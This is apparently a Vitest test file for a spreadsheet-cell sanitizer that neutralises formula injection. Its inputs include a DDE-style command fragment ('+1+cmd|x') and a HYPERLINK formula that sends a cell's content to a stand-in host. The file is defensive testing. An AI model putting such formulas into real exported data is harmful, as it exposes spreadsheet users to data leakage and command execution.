import { describe, expect, it } from 'vitest';
import { toSafeRows } from './safe-cells.ts';

const safe = (cell: string, formulas = false) => toSafeRows([[cell]], { formulas })[0]?.[0];

describe('toSafeRows', () => {
  it.each([
    '=1+1',
    ' =1+1',
    '\t=1+1',
    '+1+cmd|x',
    '-1+A1',
    '@SUM(A1)',
    '＝1+1',
    '=HYPERLINK("https://x.example/?"&A1)',
    "'quoted'",
    '- a list',
  ])('makes a text of %j', (text) => {
    expect(safe(text)).toBe(`'${text}`);
  });

  it.each(['plain', '', 'a=1', '-5', '+1.5', '-3,5%', '2026-05-04', 'a\n=b'])(
    'leaves %j as it is',
    (text) => {
      expect(safe(text)).toBe(text);
    },
  );

  it('lets formulas be formulas where the call says so, and nothing else', () => {
    expect(safe('=SUM(A1:A3)', true)).toBe('=SUM(A1:A3)');
    expect(safe('@SUM(A1)', true)).toBe("'@SUM(A1)");
    expect(safe(' =1', true)).toBe("' =1");
  });

  it('leaves what is no text alone', () => {
    expect(toSafeRows([[1, true, null, -2]], {})).toEqual([[1, true, null, -2]]);
  });
});
